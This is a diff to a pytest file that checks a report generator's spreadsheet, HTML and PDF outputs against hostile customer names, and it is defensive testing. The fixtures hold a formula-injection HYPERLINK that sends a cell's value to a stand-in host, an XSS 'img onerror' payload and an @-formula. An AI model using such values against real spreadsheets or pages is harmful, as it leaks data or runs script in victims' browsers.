@@ -12,6 +12,10 @@ from tests.conftest import TINY, read_results, write_tables
 
 pytestmark = pytest.mark.slow
 
+# Customer names that would be live in a careless report: a formula, markup, a leading @
+HOSTILE = ('"=HYPERLINK(""http://x/?""&A1,""open"")"', "<img src=x onerror=alert(1)>", "@SUM(1+1)")
+SHOWN = ('=HYPERLINK("http://x/?"&A1,"open")', "<img src=x onerror=alert(1)>", "@SUM(1+1)")
+
 # The tiny company (unit u, hand-computed in test_kris.py) plus a defect in every table, and a unit v
 # whose only orders are in 2026Q2: it has no data in 2026Q3.
 DIRTY = {
@@ -26,7 +30,9 @@ DIRTY = {
     + "O16,2026-08-01,A,,70,r1,p1,,,,completed,\n"                 # row 18: no unit
     + "V1,2026-05-03,E,v,400,r2,p1,,,,completed,\n"                # unit v: orders in 2026Q2 only
     + "V2,2026-06-03,E,v,300,r2,p1,,,,completed,\n",
-    "customers": TINY["customers"] + "E,,v,\n",                   # row 6: no customer name
+    "customers": TINY["customers"].replace("Alpha Ltd", HOSTILE[0]).replace("Gamma Inc", HOSTILE[1])
+    .replace("Delta LLC", HOSTILE[2])
+    + "E,,v,\n",                                                   # row 6: no customer name
     "reps": TINY["reps"] + "r6,Rep Six,u,2026-08-01,2026-07-15,100\n",  # row 6: left before being hired
     "invoices": TINY["invoices"]
     + "i6,C,u,2026-09-05,,400,false\n"                             # row 7: no due date
@@ -130,3 +136,23 @@ def test_a_unit_without_orders_in_the_period_is_no_data(pack: Path) -> None:
     assert not [r for r in doc["risks"] if r["movement"] != "closed" and r.get("source") != "analyst"]
     index = (pack / "index.html").read_text(encoding="utf-8")
     assert "no data" in index
+
+
+def test_text_from_data_is_inert_in_every_output(pack: Path) -> None:
+    import subprocess
+    import zipfile
+
+    from openpyxl import load_workbook
+    book = pack / "u" / "u_2026Q3_risk_register.xlsx"
+    with zipfile.ZipFile(book) as z:
+        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
+    assert not any(b"<f>" in x or b"<f " in x for x in sheets), "no cell is a formula"
+    wb = load_workbook(book)
+    texts = [c.value for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
+    assert "'" + SHOWN[0] in texts and "'" + SHOWN[2] in texts  # prefixed, shown as text by every spreadsheet
+    assert not [t for t in texts if t.startswith(("=", "+", "@", "\t", "\r")) or (t.startswith("-") and t != "-")]
+    page = (pack / "u" / "01_identification.html").read_text(encoding="utf-8")
+    assert "&lt;img src=x onerror=alert(1)&gt;" in page and "<img src=x onerror" not in page
+    pdf = subprocess.run(["pdftotext", str(pack / "u" / "u_2026Q3_risk_report.pdf"), "-"], capture_output=True,
+                         text=True, check=True).stdout
+    assert SHOWN[1] in pdf  # printed as the text it is
